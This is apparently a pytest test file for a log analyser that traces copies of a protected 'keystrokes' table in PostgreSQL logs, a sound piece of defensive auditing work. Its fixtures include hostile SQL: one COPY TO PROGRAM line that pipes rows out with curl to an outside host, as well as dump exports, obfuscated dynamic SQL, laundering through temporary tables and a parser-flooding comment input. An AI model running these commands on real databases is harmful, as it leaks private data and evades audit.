"""The copies finder over jsonlog lines as the server writes them: each kind, outcomes, transactions,
renames and drops, laundering, copies of copies, and what is not a copy."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from pausegate.analysis.copies import CopyFinder, find_copies
from pausegate.analysis.statement_reads import MAX_STATEMENT_BYTES, Exposer, ReadScope
from pausegate.models.copies import Copy, CopyKind

SCOPE = ReadScope.of(
    tables=["data.keystrokes"],
    exposers={
        "public.recent": Exposer(kind="view", reaches=("data.keystrokes",)),
        "public.lookup": Exposer(kind="function", reaches=("data.keystrokes",)),
    },
)


class Log:
    """jsonlog lines of several sessions, in order, as sealed records."""

    def __init__(self) -> None:
        self.records: list[dict[str, Any]] = []
        self.lines: dict[str, int] = {}
        self.second = 0

    def _line(self, session: str, fields: dict[str, Any]) -> None:
        self.lines[session] = self.lines.get(session, 0) + 1
        self.second += 1
        entry = {"timestamp": f"2026-11-29 06:{self.second // 60:02d}:{self.second % 60:02d}.000 UTC",
                 "dbname": "app", "session_id": session, "line_num": self.lines[session], **fields}
        self.records.append({"at": "2026-11-29T06:00:00+00:00", "file": "postgresql.json",
                             "offset": 100 * len(self.records), "line": json.dumps(entry)})

    def sql(self, user: str, statement: str, *, session: str | None = None, app: str = "psql",
            host: str = "10.1.2.3") -> Log:
        self._line(session or user, {"user": user, "error_severity": "LOG", "message": f"statement: {statement}",
                                     "application_name": app, "remote_host": host})
        return self

    def error(self, user: str, *, session: str | None = None) -> Log:
        self._line(session or user, {"user": user, "error_severity": "ERROR", "message": "permission denied"})
        return self

    def find(self, scope: ReadScope = SCOPE, **kwargs: Any) -> list[Copy]:
        return find_copies(self.records, scope, dataset_of=lambda t: "keystrokes" if t.startswith("data.") else None,
                           **kwargs).copies


@pytest.fixture
def log() -> Iterator[Log]:
    yield Log()


def kinds(copies: list[Copy]) -> list[tuple[str, str | None, str]]:
    return [(c.kind.value, c.qualified or c.name or c.destination, c.state) for c in copies]


class TestEachKind:
    @pytest.mark.parametrize(("statement", "kind", "name"), [
        ("CREATE TABLE sandbox.c AS SELECT * FROM data.keystrokes", CopyKind.CREATE_TABLE_AS, "sandbox.c"),
        ("CREATE UNLOGGED TABLE sandbox.c AS TABLE data.keystrokes", CopyKind.CREATE_TABLE_AS, "sandbox.c"),
        ("SELECT typed INTO sandbox.c FROM data.keystrokes", CopyKind.SELECT_INTO, "sandbox.c"),
        ("INSERT INTO sandbox.c SELECT * FROM data.keystrokes", CopyKind.INSERT_SELECT, "sandbox.c"),
        ("INSERT INTO sandbox.c (t) SELECT typed FROM recent", CopyKind.INSERT_SELECT, "sandbox.c"),
        ("MERGE INTO sandbox.c t USING data.keystrokes k ON t.id = k.id WHEN NOT MATCHED THEN INSERT VALUES (k.id)",
         CopyKind.MERGE, "sandbox.c"),
        ("UPDATE sandbox.c SET t = k.typed FROM data.keystrokes k WHERE k.id = c.id", CopyKind.UPDATE_FROM,
         "sandbox.c"),
        ("CREATE MATERIALIZED VIEW sandbox.m AS SELECT lookup(1)", CopyKind.MATERIALIZED_VIEW, "sandbox.m"),
        ("WITH k AS (SELECT * FROM data.keystrokes) INSERT INTO sandbox.c SELECT * FROM k", CopyKind.INSERT_SELECT,
         "sandbox.c"),
    ])
    def test_a_statement_that_puts_read_rows_in_a_relation_is_a_copy(
            self, log: Log, statement: str, kind: CopyKind, name: str) -> None:
        """Each way of writing the dataset's rows (or a view's, a routine's) into a relation."""
        copies = log.sql("alice", statement).find()
        assert kinds(copies) == [(kind.value, name, "found")]
        assert copies[0].creator == "alice" and copies[0].datasets == ("keystrokes",)
        assert copies[0].evidence[0].file == "postgresql.json" and copies[0].evidence[0].client == "10.1.2.3"

    def test_copies_that_leave_the_database(self, log: Log) -> None:
        """COPY TO the client, a program, pg_dump's reads: left the database; COPY TO a file: on the server."""
        log.sql("a", "COPY data.keystrokes TO STDOUT", app="psql")
        log.sql("b", "COPY (SELECT typed FROM recent) TO PROGRAM 'curl -T - http://x'")
        log.sql("c", "COPY data.keystrokes (id, typed) TO stdout;", app="pg_dump")
        log.sql("d", "DECLARE _pg_dump_cursor CURSOR FOR SELECT * FROM ONLY data.keystrokes", app="pg_dump")
        log.sql("e", "COPY data.keystrokes TO '/var/lib/postgresql/out.csv' (FORMAT csv)")
        assert kinds(log.find()) == [
            ("copy_to_client", "client", "left_database"),
            ("copy_to_program", "curl -T - http://x", "left_database"),
            ("client_dump", "client", "left_database"),
            ("client_dump", "client", "left_database"),
            ("copy_to_file", "/var/lib/postgresql/out.csv", "found"),
        ]

    def test_repeated_exports_are_one_copy_counted(self, log: Log) -> None:
        for _ in range(3):
            log.sql("a", "COPY data.keystrokes TO STDOUT")
        (copy,) = log.find()
        assert len(copy.evidence) == 3 and copy.note == "3 statements"

    def test_dynamic_sql_that_may_write_is_possible(self, log: Log) -> None:
        """DO, a routine defined in the window, PREPARE: possible, with their creator."""
        log.sql("a", "DO $$ BEGIN EXECUTE 'create table x as select * from ' || 'data.keys' || 'trokes'; END $$")
        log.sql("b", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'INSERT INTO t SELECT * FROM data.keystrokes'")
        log.sql("c", "SELECT dblink_exec('dbname=other', 'INSERT INTO t SELECT 1') FROM data.keystrokes")
        log.sql("d", "DO $$ BEGIN RAISE NOTICE 'keystrokes'; END $$")  # writes nothing
        assert [(c.kind, c.creator, c.state) for c in log.find()] == [
            (CopyKind.DYNAMIC, "a", "possible"), (CopyKind.DYNAMIC, "b", "possible"),
            (CopyKind.DYNAMIC, "c", "possible")]

    def test_a_prepared_copy_is_a_copy_when_executed(self, log: Log) -> None:
        """PREPARE copies nothing; EXECUTE, or CREATE TABLE AS EXECUTE, copies what the definition reads."""
        log.sql("a", "PREPARE p AS INSERT INTO s.c SELECT * FROM data.keystrokes")
        log.sql("a", "PREPARE q AS SELECT typed FROM recent")
        assert log.find() == []
        log.sql("a", "EXECUTE p").sql("a", "CREATE TABLE s.d AS EXECUTE q")
        log.sql("b", "EXECUTE p")  # another session has no such prepared statement
        assert kinds(log.find()) == [("insert_select", "s.c", "found"), ("create_table_as", "s.d", "found")]

    def test_explain_analyze_runs_what_it_explains(self, log: Log) -> None:
        log.sql("a", "EXPLAIN ANALYZE CREATE TABLE s.c AS SELECT * FROM data.keystrokes")
        log.sql("a", "EXPLAIN CREATE TABLE s.d AS SELECT * FROM data.keystrokes")
        assert kinds(log.find()) == [("create_table_as", "s.c", "found")]

    def test_materialized_view_with_no_data_is_possible_until_refreshed(self, log: Log) -> None:
        log.sql("a", "CREATE MATERIALIZED VIEW s.m AS SELECT * FROM data.keystrokes WITH NO DATA")
        assert kinds(log.find()) == [("materialized_view", "s.m", "possible")]
        log.sql("a", "REFRESH MATERIALIZED VIEW s.m")
        assert kinds(log.find()) == [("materialized_view", "s.m", "found")]


class TestNotCopies:
    def test_unrelated_rows_and_plain_reads_are_not_copies(self, log: Log) -> None:
        """Negative control: a table from other data, a plain SELECT, an INSERT of values, a write into the dataset."""
        log.sql("a", "CREATE TABLE s.unrelated AS SELECT g FROM generate_series(1, 10) g")
        log.sql("a", "SELECT * FROM data.keystrokes")
        log.sql("a", "INSERT INTO s.notes VALUES (1, 'keystrokes')")
        log.sql("a", "INSERT INTO data.keystrokes SELECT * FROM data.keystrokes")
        log.sql("a", "CREATE TABLE s.empty AS SELECT * FROM data.keystrokes WITH NO DATA")
        assert [c.state for c in log.find()] == ["possible"]  # only the empty definition, as possible

    def test_a_failed_statement_made_nothing(self, log: Log) -> None:
        log.sql("a", "CREATE TABLE s.c AS SELECT * FROM data.keystrokes").error("a")
        log.sql("a", "SELECT 1")
        assert log.find() == []

    def test_a_rolled_back_transaction_made_no_table_but_rows_sent_out_left(self, log: Log) -> None:
        log.sql("a", "BEGIN").sql("a", "CREATE TABLE s.c AS SELECT * FROM data.keystrokes")
        log.sql("a", "COPY data.keystrokes TO STDOUT").sql("a", "ROLLBACK")
        log.sql("b", "BEGIN").sql("b", "CREATE TABLE s.d AS SELECT * FROM data.keystrokes")
        log.sql("b", "SELECT 1/0").error("b").sql("b", "COMMIT")
        log.sql("c", "BEGIN").sql("c", "CREATE TABLE s.e AS SELECT * FROM data.keystrokes").sql("c", "COMMIT")
        assert kinds(log.find()) == [("copy_to_client", "client", "left_database"),
                                     ("create_table_as", "s.e", "found")]

    def test_a_statement_too_large_to_parse_is_counted_and_possible_when_it_may_write(self, log: Log) -> None:
        log.sql("a", "INSERT INTO s.c SELECT * FROM data.keystrokes WHERE x IN (" + "1," * MAX_STATEMENT_BYTES + "1)")
        finder = CopyFinder(SCOPE)
        finder.add(log.records)
        found = finder.finish()
        assert found.unparsed == 1 and [(c.kind, c.state) for c in found.copies] == [(CopyKind.DYNAMIC, "possible")]

    def test_hostile_comment_runs_are_bounded(self, log: Log) -> None:
        """Thousands of nested comment markers: cut short before the parser, the copy still found."""
        log.sql("a", "CREATE TABLE s.c AS SELECT * /*" + "/**/" * 20000 + "*/ FROM data.keystrokes")
        assert kinds(log.find()) == [("create_table_as", "s.c", "found")]


class TestFollowing:
    def test_unqualified_names_follow_the_search_path(self, log: Log) -> None:
        log.sql("a", "SET search_path = data, public").sql("a", "CREATE TABLE s.c AS SELECT * FROM keystrokes")
        log.sql("b", "CREATE TABLE c2 AS SELECT * FROM keystrokes")  # public.keystrokes: not the dataset
        copies = log.find()
        assert kinds(copies) == [("create_table_as", "s.c", "found")]

    def test_a_new_table_named_without_schema_lists_its_candidates(self, log: Log) -> None:
        (copy,) = log.sql("alice", "CREATE TABLE c AS SELECT * FROM data.keystrokes").find()
        assert copy.schema_name is None and copy.candidates == ("alice.c", "public.c")
        (placed,) = log.find(existing_schemas={"public"})
        assert (placed.schema_name, placed.candidates) == ("public", ())

    def test_laundering_through_a_temporary_table(self, log: Log) -> None:
        """A temporary copy, then INSERT into a permanent table from it: both listed, the second through the first;
        another session's table of the same name is not the temporary one."""
        log.sql("a", "CREATE TEMP TABLE t AS SELECT * FROM data.keystrokes")
        log.sql("b", "CREATE TABLE s.other AS SELECT * FROM t")
        log.sql("a", "INSERT INTO s.clean SELECT * FROM t")
        copies = log.find()
        assert kinds(copies) == [("temporary_table", "pg_temp.t", "found"), ("insert_select", "s.clean", "found")]
        assert copies[1].sources == ("pg_temp.t",) and copies[1].datasets == ("keystrokes",)

    def test_an_empty_temporary_table_filled_later(self, log: Log) -> None:
        log.sql("a", "CREATE TEMPORARY TABLE t (x text)").sql("a", "INSERT INTO t SELECT typed FROM data.keystrokes")
        log.sql("a", "CREATE TABLE s.kept AS SELECT * FROM pg_temp.t")
        assert kinds(log.find()) == [("temporary_table", "pg_temp.t", "found"), ("create_table_as", "s.kept", "found")]

    def test_copies_of_copies_reach_a_fixed_point_across_sessions(self, log: Log) -> None:
        log.sql("a", "CREATE TABLE s.first AS SELECT * FROM data.keystrokes")
        log.sql("b", "CREATE VIEW s.v AS SELECT typed FROM s.first")
        log.sql("c", "CREATE TABLE s.second AS SELECT * FROM s.v")
        log.sql("d", "COPY s.second TO STDOUT")
        log.sql("e", "CREATE TABLE s.third AS SELECT * FROM s.second JOIN s.other USING (id)")
        copies = log.find()
        assert kinds(copies) == [("create_table_as", "s.first", "found"), ("create_table_as", "s.second", "found"),
                                 ("copy_to_client", "client", "left_database"),
                                 ("create_table_as", "s.third", "found")]
        assert copies[1].via == "s.v" and all(c.datasets == ("keystrokes",) for c in copies)

    def test_renames_moves_and_drops_are_followed(self, log: Log) -> None:
        log.sql("a", "CREATE TABLE s.c AS SELECT * FROM data.keystrokes")
        log.sql("a", "ALTER TABLE s.c RENAME TO hidden").sql("a", "ALTER TABLE s.hidden SET SCHEMA t")
        log.sql("b", "CREATE TABLE s.d AS SELECT * FROM t.hidden")
        log.sql("a", "DROP TABLE t.hidden")
        log.sql("c", "ALTER TABLE s.d RENAME TO e").error("c")
        assert kinds(log.find()) == [("create_table_as", "t.hidden", "gone"), ("create_table_as", "s.d", "found")]

    def test_a_schema_dropped_with_its_copies(self, log: Log) -> None:
        log.sql("a", "CREATE TABLE s.c AS SELECT * FROM data.keystrokes")
        log.sql("a", "CREATE TABLE t.d AS SELECT * FROM data.keystrokes")
        log.sql("a", "DROP SCHEMA s CASCADE")
        log.sql("b", "DROP SCHEMA t CASCADE").error("b")
        assert kinds(log.find()) == [("create_table_as", "s.c", "gone"), ("create_table_as", "t.d", "found")]

    def test_ids_are_stable_across_runs(self, log: Log) -> None:
        log.sql("a", "CREATE TABLE s.c AS SELECT * FROM data.keystrokes").sql("b", "COPY data.keystrokes TO STDOUT")
        assert [c.id for c in log.find()] == [c.id for c in log.find()]
